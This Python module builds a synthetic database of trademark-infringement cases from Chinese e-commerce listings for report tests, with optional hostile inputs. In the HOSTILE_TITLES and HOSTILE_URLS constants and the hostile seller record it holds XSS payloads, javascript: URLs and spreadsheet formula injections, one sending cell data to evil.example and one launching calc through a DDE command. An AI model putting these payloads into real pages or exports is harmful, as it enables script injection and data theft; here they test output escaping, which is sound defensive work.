"""A synthetic case database for report tests, the report benchmark and the README's page image.

    summary = populate(url, root, week=IsoWeek.parse("2026-W48"), cases=200)

It writes only through the case store and workflow (`cases.store.record_batch`,
`cases.workflow.set_status`), then back-dates the status events so twelve weeks
of history exist; evidence captures get real files (screenshot, product image,
environment record, MANIFEST.sha256) under `root`. With `hostile=True` some
listings carry script tags, javascript: URLs and spreadsheet formulas, as a
hostile seller would write them.
"""

from __future__ import annotations

import hashlib
import io
import json
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from PIL import Image, ImageDraw, ImageFont
from sqlalchemy import select, update
from sqlalchemy.orm import selectinload

from cases.db import migrate, session_factory
from cases.models import Case, CaseEvent, EvidenceCapture, EvidenceFile
from cases.reporting import IsoWeek
from cases.store import record_batch
from cases.workflow import set_status
from matchers.records import Evidence, Finding, Listing, Seller, Violation

CHINA = ZoneInfo("Asia/Shanghai")
PLATFORMS = ("demo-taobao", "demo-jd", "demo-pdd", "demo-douyin")
FONT_PATH = Path("/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc")
DEFAULT_LOGO = Path(__file__).resolve().parent.parent / "brandpacks" / "fengjie" / "logos" / "fshp-logo.png"
GOODS = ("脐橙", "腊肉", "红薯粉", "蜂蜜", "核桃", "大米")
PLACES = ("江西 赣州", "湖北 宜昌", "广西 桂林", "四川 成都", "重庆 万州")
SHOP_WORDS = ("果园", "山货", "农家", "鲜果", "特产", "优品", "乡味", "原生态")

# (code, mark, sign written in the title, reason template, legal basis)
VIOLATIONS = (
    ("MARK_SIMILAR", "FSHP", "奉上好吕", "标题使用“{sign}”，与注册商标“奉上好品”仅一字之差，构成近似标识",
     "《商标法》第五十七条第（二）项"),
    ("MARK_UNAUTHORISED", "FSHP", "奉上好品", "标题使用注册商标“{sign}”，卖家不在授权名单内",
     "《商标法》第五十七条第（一）项"),
    ("GI_FALSE_ORIGIN", "FJQC", "奉节脐橙", "标题含地理标志“{sign}”，发货地“{place}”不在地理标志产地范围内",
     "《商标法》第十六条、第五十七条"),
    ("FALSE_AUTH_CLAIM", "FSHP", "奉上好品官方授权", "标题宣称“{sign}”，卖家并非授权使用人",
     "《反不正当竞争法》第八条"),
    ("LOGO_UNAUTHORISED", "LOGO_MAIN", "", "商品主图中出现与注册标志高度相似的图形（图像距离 0.06）",
     "《商标法》第五十七条第（一）项"),
    ("FALSE_TRACE_CLAIM", "FSHP", "奉上好品 一码溯源", "标题宣称“{sign}”，卖家未接入官方溯源体系",
     "《反不正当竞争法》第八条"),
)
HOSTILE_TITLES = (
    '<script>alert("xss")</script>奉上好吕脐橙',
    '奉上好吕"><img src=x onerror=alert(1)>腊肉',
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"奉上好吕\")",
    "+cmd|' /C calc'!A0 奉上好吕",
)
HOSTILE_URLS = ("javascript:alert(document.domain)", " JAVASCRIPT:alert(1)", "data:text/html,<script>1</script>")
LOGO_BOX = (40, 40, 160, 160)  # [x, y, width, height], as matchers.logo reports it


@dataclass
class SampleSummary:
    cases: int
    captures: int
    closed: int


def _font(size: int):
    try:
        return ImageFont.truetype(str(FONT_PATH), size)
    except OSError:
        return ImageFont.load_default()


def populate(
    url: str,
    root: Path,
    *,
    week: IsoWeek,
    cases: int = 60,
    seed: int = 7,
    hostile: bool = False,
    evidence_for: int = 12,
    batch: int = 500,
    logo: Path = DEFAULT_LOGO,
) -> SampleSummary:
    """Fill the database at `url` (migrated first) with about `cases` cases over the 12 weeks up to `week`."""
    rng = random.Random(seed)
    migrate(url)
    factory = session_factory(url)
    end = datetime.combine(week.end, datetime.max.time(), CHINA).replace(microsecond=0)
    pairs = []
    for index in range(cases):
        seller_index = index // 2
        code, mark, sign, reason, legal = VIOLATIONS[(index % 2 + 2 * (seller_index % 3)) % len(VIOLATIONS)]
        platform = PLATFORMS[seller_index % len(PLATFORMS)]
        place = rng.choice(PLACES)
        goods = rng.choice(GOODS)
        # More recent weeks carry more new cases, as a growing problem would.
        days_back = int(rng.triangular(0, 83, 0))
        seen = end - timedelta(days=days_back, hours=rng.randint(0, 20), minutes=rng.randint(0, 59))
        listing_id = f"{880000 + index}"
        title = f"{sign} {goods} 5斤装 当季现摘 {place}发货" if sign else f"{goods} 礼盒装 {place}发货"
        url_text = f"https://{platform}.demo.test/item/{listing_id}"
        operator = seller_index // 2  # two shops per operator, on two platforms: linked by company
        seller = Seller(
            id=f"s-{seller_index}",
            name=f"{SHOP_WORDS[operator % len(SHOP_WORDS)]}{operator}号{goods}店",
            company=f"某某{operator}号农产品贸易有限公司",
            location=place,
            shop_url=f"https://{platform}.demo.test/shop/s-{seller_index}",
        )
        if hostile and index % 5 == 0:
            title = HOSTILE_TITLES[(index // 5) % len(HOSTILE_TITLES)]
            url_text = HOSTILE_URLS[(index // 5) % len(HOSTILE_URLS)]
            seller = Seller(id=f"s-{seller_index}", name="=HYPERLINK(\"http://evil.example\")",
                            company="@SUM(1+1)*cmd|' /C calc'!A0", shop_url="javascript:alert(2)")
        record = Listing(
            platform=platform,
            listing_id=listing_id,
            url=url_text,
            title=title,
            captured_at=seen.isoformat(),
            price=round(rng.uniform(9.9, 99.0), 1),
            seller=seller,
            ship_from=place,
            images=(f"images/{listing_id}-0.jpg",),
        )
        if code == "LOGO_UNAUTHORISED":
            evidence = Evidence(field="image:0", bbox=LOGO_BOX, distance=0.06)
        else:
            start = title.find(sign[:4]) if sign else -1
            evidence = (
                Evidence(field="title", span=(start, start + len(sign[:4])), matched=sign[:4])
                if start >= 0 else Evidence(field="title", matched=sign[:4] or None)
            )
        score = round(rng.uniform(0.55, 0.99), 2)
        violation = Violation(code, mark, score, reason.format(sign=sign, place=place), evidence, legal)
        pairs.append((record, Finding(platform, listing_id, (violation,), score, None)))
    for start_index in range(0, len(pairs), batch):
        with factory.begin() as session:
            record_batch(session, pairs[start_index : start_index + batch])

    closed = _progress_cases(factory, rng, end)
    captures = _capture_evidence(factory, root, evidence_for, rng, logo)
    with factory() as session:
        total = len(session.scalars(select(Case.id)).all())
    return SampleSummary(cases=total, captures=captures, closed=closed)


def _progress_cases(factory, rng: random.Random, end: datetime) -> int:
    """Move some cases along the workflow, with event times spread after they opened."""
    closed = 0
    with factory.begin() as session:
        # The store stamps events with its own clock; the history wants the crawl's.
        session.execute(
            update(CaseEvent)
            .where(CaseEvent.kind.in_(("opened", "relisting", "listing")))
            .values(at=select(Case.opened_at).where(Case.id == CaseEvent.case_id).scalar_subquery())
        )
        for case in session.scalars(select(Case).options(selectinload(Case.events)).order_by(Case.id)):
            roll = rng.random()
            if roll < 0.45:
                continue
            path = ["triaged", "confirmed", "notice_sent", "removed"] if roll < 0.85 else ["dismissed"]
            if roll < 0.6:
                path = path[: rng.randint(1, 3)]
            moment = case.opened_at
            for status in path:
                moment = moment + timedelta(days=rng.uniform(0.5, 6))
                if moment > end.astimezone(UTC):
                    break
                event = set_status(session, case, status, actor="王警官", note="误报：店铺位于奉节" if
                                   status == "dismissed" else None)
                event.at = moment
                if status in ("removed", "dismissed"):
                    case.closed_at = moment
                    closed += 1
    return closed


def _capture_evidence(factory, root: Path, count: int, rng: random.Random, logo: Path) -> int:
    """Evidence capture directories with real files for the highest-risk cases."""
    made = 0
    with factory.begin() as session:
        ranked = session.scalars(select(Case).order_by(Case.risk.desc(), Case.id)).all()
        # One case of each violation type first, so every kind of evidence (a logo crop too) exists.
        first_of_code = {}
        for case in ranked:
            first_of_code.setdefault(case.code, case)
        chosen = list(first_of_code.values())[:count]
        chosen += [case for case in ranked if case not in chosen][: max(0, count - len(chosen))]
        for case in chosen:
            listing = case.listings[0].listing
            relative = Path("evidence") / f"case-{case.id}" / f"capture-{made + 1}"
            directory = root / relative
            (directory / "images").mkdir(parents=True, exist_ok=True)
            captured_at = case.opened_at + timedelta(hours=2)
            _screenshot(listing.title, listing.url, directory / "screenshot.png")
            product = _product_image(logo, rng)
            image_name = f"images/{hashlib.sha256(product).hexdigest()}.jpg"
            (directory / image_name).write_bytes(product)
            (directory / "dom.html").write_text(f"<html><body><h1>{listing.external_id}</h1></body></html>",
                                                encoding="utf-8")
            record_images = listing.sightings[-1].record.get("images") or []
            # The layout crawler.evidence writes: fixed names, images by hash, versions under "tools".
            (directory / "environment.json").write_text(json.dumps({
                "captured_at": captured_at.astimezone(CHINA).isoformat(timespec="seconds"),
                "url": listing.url, "final_url": listing.url, "http_status": 200,
                "images": [{"url": url, "file": image_name} for url in record_images[:1]],
                "tools": {"haopin": "0.1.0", "python": "3.11", "playwright": "1.65.2",
                          "browser": "Chromium 131.0.6778.139"},
                "browser_settings": {"user_agent": "Mozilla/5.0 (X11; Linux x86_64) HeadlessChrome/131.0"},
            }, ensure_ascii=False, indent=2), encoding="utf-8")
            files = sorted(p for p in directory.rglob("*") if p.is_file() and p.name != "MANIFEST.sha256")
            digests = {p.relative_to(directory).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}
            manifest = "".join(f"{digest}  {name}\n" for name, digest in digests.items())
            (directory / "MANIFEST.sha256").write_text(manifest, encoding="utf-8")
            capture = EvidenceCapture(
                case_id=case.id,
                listing_id=listing.id,
                captured_at=captured_at,
                directory=relative.as_posix(),
                url=listing.url,
                final_url=listing.url,
                http_status=200,
                manifest_sha256=hashlib.sha256(manifest.encode("utf-8")).hexdigest(),
            )
            capture.files = [
                EvidenceFile(name=name, sha256=digest, size=(directory / name).stat().st_size)
                for name, digest in digests.items()
            ]
            session.add(capture)
            case.events.append(CaseEvent(at=captured_at, actor="haopin", kind="evidence",
                                         note=f"证据提取 {relative.as_posix()}"))
            made += 1
    return made


def _screenshot(title: str, url: str, destination: Path) -> None:
    image = Image.new("RGB", (800, 1400), "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, 800, 70), fill=(255, 80, 0))
    draw.text((24, 18), "演示商城 · 商品详情", fill="white", font=_font(30))
    draw.rectangle((24, 100, 424, 500), fill=(250, 170, 40))
    draw.ellipse((124, 200, 324, 400), fill=(240, 120, 20))
    for line, text in enumerate((title[:22], title[22:44], "¥ 39.90  已售 1.2万", url[:48])):
        draw.text((450, 110 + line * 50), text, fill="black", font=_font(22 if line < 2 else 18))
    for row in range(12):
        draw.rectangle((24, 540 + row * 70, 776, 590 + row * 70), outline=(200, 200, 200))
    image.save(destination, format="PNG")


def _product_image(logo: Path, rng: random.Random) -> bytes:
    image = Image.new("RGB", (480, 480), (250, 200 + rng.randint(0, 40), 120))
    try:
        with Image.open(logo) as mark:
            pasted = mark.convert("RGBA").resize(LOGO_BOX[2:])
            image.paste(pasted, LOGO_BOX[:2], pasted)
    except OSError:
        x, y, width, height = LOGO_BOX
        ImageDraw.Draw(image).rectangle((x, y, x + width, y + height), fill=(200, 0, 0))
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=85)
    return buffer.getvalue()
